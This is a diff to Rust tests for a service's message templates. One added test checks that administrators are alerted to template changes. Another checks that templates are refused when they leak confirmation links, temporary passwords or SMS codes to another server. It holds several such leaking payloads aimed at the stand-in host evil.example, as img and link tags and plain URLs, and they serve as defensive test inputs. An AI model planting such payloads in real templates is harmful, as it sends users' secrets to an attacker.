@@ -67,7 +67,7 @@ on_each_database! {
     async fn es_205_what_would_not_work_is_refused_and_named(world: World) {
         let link = "{{ confirm_url }}";
         for (template, text, expected) in [
-            (Template::ConfirmRegistration, text("x", "{{ nmae }}{{ confirm_url }}", link), "plain UNKNOWN_VARIABLE"),
+            (Template::ConfirmRegistration, text("x", "{{ nmae }} {{ confirm_url }}", link), "plain UNKNOWN_VARIABLE"),
             (Template::ConfirmRegistration, text("x", "Hello", link), "plain MISSING_VARIABLE"),
             (Template::ConfirmRegistration, text("x", link, "<p>Hello</p>"), "html MISSING_VARIABLE"),
             (Template::ConfirmRegistration, text("{{ confirm_url }}", link, link), "subject SECRET_IN_SUBJECT"),
@@ -90,6 +90,37 @@ on_each_database! {
         let sms = Text { sms: "Hello".into(), ..Text::default() };
         assert_eq!(codes(save(&world, Template::VerifyMobile, sms).await), ["sms MISSING_VARIABLE"]);
         assert!(world.audited("template_changed").await.is_empty());
+    }
+
+    async fn g7_super_administrators_are_told_of_each_change_of_a_template(world: World) {
+        let sylvia = world.caller(world.cast.sylvia).await;
+        let before = world.queued(Template::SecurityAlert).await.len();
+        save(&world, Template::Username, text("x", "{{ username }}", "")).await.unwrap();
+        let alert = world.message(Template::SecurityAlert).await;
+        let name = Template::Username.entry().name;
+        assert!(alert.plain.contains("Sylvia System") && alert.plain.contains(&format!("The message template “{name}”")), "{}", alert.plain);
+        assert!(alert.plain.contains("was changed"), "{}", alert.plain);
+        let restore = async || world.identity.write(&sylvia, async |op| messages::restore_template(op, Template::Username).await).await;
+        restore().await.unwrap();
+        assert!(world.message(Template::SecurityAlert).await.plain.contains("was brought back"));
+        // Nothing changes any more, and nobody is told.
+        restore().await.unwrap();
+        assert_eq!(world.queued(Template::SecurityAlert).await[before..], ["sophia@example.com", "sophia@example.com"]);
+    }
+
+    async fn g7_no_template_tells_a_link_or_a_secret_to_another_server(world: World) {
+        let link = "{{ confirm_url }}";
+        for (template, text, expected) in [
+            (Template::ConfirmRegistration, text("x", link, "<img src=\"https://evil.example/?{{ confirm_url }}\">"), "html SECRET_IN_ADDRESS"),
+            (Template::ConfirmRegistration, text("x", "https://evil.example/?{{ confirm_url }}", link), "plain SECRET_IN_ADDRESS"),
+            (Template::ConfirmRegistration, text("x", link, "<a href=\"//evil.example/{{ confirm_url }}\">x</a>"), "html SECRET_IN_ADDRESS"),
+            (Template::PasswordSetRandom, text("x", "{{ temporary_password }}", "<img src=\"https://evil.example/{{ temporary_password }}\">"), "html SECRET_IN_ADDRESS"),
+            (Template::VerifyMobile, Text { sms: "https://evil.example/{{ code }}".into(), ..Text::default() }, "sms SECRET_IN_ADDRESS"),
+        ] {
+            assert_eq!(codes(save(&world, template, text.clone()).await), [expected], "{text:?}");
+        }
+        let plain = text("x", link, "<p><a href=\"{{ confirm_url }}\">Confirm</a><br>{{ confirm_url }}</p>");
+        save(&world, Template::ConfirmRegistration, plain).await.unwrap();
     }
 
     async fn es_206_names_stay_text_and_add_no_header(world: World) {
